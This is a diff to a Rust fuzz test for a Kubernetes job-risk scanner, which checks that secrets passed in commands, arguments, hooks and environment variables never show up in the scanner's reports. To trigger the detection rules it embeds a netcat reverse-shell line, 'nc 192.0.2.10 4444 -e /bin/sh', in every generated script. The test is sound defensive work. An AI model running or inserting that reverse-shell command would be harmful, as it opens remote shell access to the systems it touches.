@@ -1,8 +1,9 @@
 //! A secret that nobody else knows, in a place where secrets stand: nothing that is written repeats it.
 //!
-//! The first byte of the input chooses how the secret is written, the second where, and the rest is the script around
-//! it, a zero byte in place of the secret.
+//! The first byte of the input chooses how the secret is written, the second where. The rest is what stands around it,
+//! separated by zero bytes: words in front of it, and the script before and behind it.
 
+use jobrisk::normalize::{Limits, parse};
 use jobrisk::report::{FindingLine, report};
 use jobrisk::workload::decode::from_json;
 use jobrisk::workload::{Kind, Workload};
@@ -12,7 +13,7 @@ use super::records::whole;
 use super::{invariants, manifest};
 
 /// How secrets are written; `@` stands for the secret. Each is a piece of a script.
-pub const SHAPES: [&str; 16] = [
+pub const SHAPES: [&str; 25] = [
     "--password=@",
     "--password @",
     "--token '@'",
@@ -27,12 +28,25 @@ pub const SHAPES: [&str; 16] = [
     "curl -u admin:@ http://192.0.2.1/",
     "sshpass -p @ ssh host",
     "AWS_SECRET_ACCESS_KEY=@ aws s3 ls",
+    "--password='a \"; @'",
+    "--token=\"a ' \\\" @\"",
+    "curl -u \"me:a b@\" http://192.0.2.1/",
+    "-H 'X-Api-Key: a; @'",
+    "redis-cli -a @ ping",
+    "docker login -u me -p @",
+    "ldapsearch -w @",
+    "openssl enc -d -pass pass:@",
+    "PASSWORD='a b;@' env",
     "$SETTING",
     "${SETTING}",
 ];
 
 /// Where the script stands.
 pub const PLACES: u8 = 6;
+
+const WITHOUT_SHELL: u8 = 3;
+const SCRIPT_IN_ENVIRONMENT: u8 = 4;
+const IN_ENVIRONMENT: u8 = 5;
 
 /// What makes rules show the command that the secret stands in.
 const ATTACK: &str = "nc 192.0.2.10 4444 -e /bin/sh";
@@ -43,10 +57,13 @@ pub fn run(input: &[u8]) {
     let secret = secret(input);
     let shape = SHAPES[usize::from(*shape) % SHAPES.len()].replacen('@', &secret, 1);
     let text = String::from_utf8_lossy(text);
-    let (before, after) = text.split_once('\0').unwrap_or((&text, ""));
-    let script = format!("{before}\n{ATTACK} {shape}\n{after}");
+    let mut parts = text.splitn(3, '\0');
+    let mut part = || parts.next().unwrap_or_default();
+    let (near, before, after) = (words(part()), part(), part());
+    let command = format!("{ATTACK} {near} {shape}");
+    let script = format!("{before}\n{command}\n{after}");
     let kind = if *place % 2 == 0 { Kind::Job } else { Kind::CronJob };
-    let object = whole(kind, "n", &pod(*place % PLACES, &script, &secret));
+    let object = whole(kind, "n", &pod(*place % PLACES, &command, &script, &secret));
     let bytes = serde_json::to_vec(&object).unwrap();
     // A part is too much, too: excerpts are cut.
     let part = &secret[..6];
@@ -68,27 +85,37 @@ pub fn run(input: &[u8]) {
     }
 }
 
-fn pod(place: u8, script: &str, secret: &str) -> Value {
-    let words: Vec<&str> = script.split_whitespace().collect();
+/// Ordinary words: what ends a command or opens a quote would tear the shape of the secret apart.
+fn words(text: &str) -> String {
+    let is_ordinary = |character: char| character.is_ascii_alphanumeric() || " -_.,:/=%+".contains(character);
+    text.chars().filter(|character| is_ordinary(*character)).collect()
+}
+
+fn pod(place: u8, command: &str, script: &str, secret: &str) -> Value {
     let shell = json!(["/bin/sh", "-c", script]);
-    let mut container = json!({
-        "name": "c",
-        "image": "alpine",
-        "env": [{"name": "SETTING", "value": secret}],
-    });
+    let mut env = Vec::new();
+    // Values of the environment never appear: where it is not needed there, it must not help.
+    if place == IN_ENVIRONMENT || script.contains("SETTING") {
+        env.push(json!({"name": "SETTING", "value": secret}));
+    }
+    let mut container = json!({"name": "c", "image": "alpine"});
     match place {
         0 => container["command"] = shell,
         1 => container["args"] = shell,
         2 => container["lifecycle"] = json!({"preStop": {"exec": {"command": shell}}}),
-        3 => container["command"] = json!(words),
-        4 => container["command"] = json!(["/bin/bash", "-lc", "$(SCRIPT)"]),
+        WITHOUT_SHELL => {
+            let words = parse(command, &Limits::default()).commands.swap_remove(0).words;
+            container["command"] = words.into_iter().map(|word| word.text).collect();
+        }
+        SCRIPT_IN_ENVIRONMENT => container["command"] = json!(["/bin/bash", "-lc", "$(SCRIPT)"]),
         _ => {
-            container["command"] = json!(["sh", "-c", format!("{ATTACK} \"$SETTING\" $(SETTING)\n{script}")])
+            container["command"] = json!(["sh", "-c", format!("{ATTACK} \"$SETTING\" $(SETTING)\n{script}")]);
         }
     }
-    if place == 4 {
-        container["env"].as_array_mut().unwrap().push(json!({"name": "SCRIPT", "value": script}));
+    if place == SCRIPT_IN_ENVIRONMENT {
+        env.push(json!({"name": "SCRIPT", "value": script}));
     }
+    container["env"] = env.into();
     json!({"containers": [container]})
 }
 
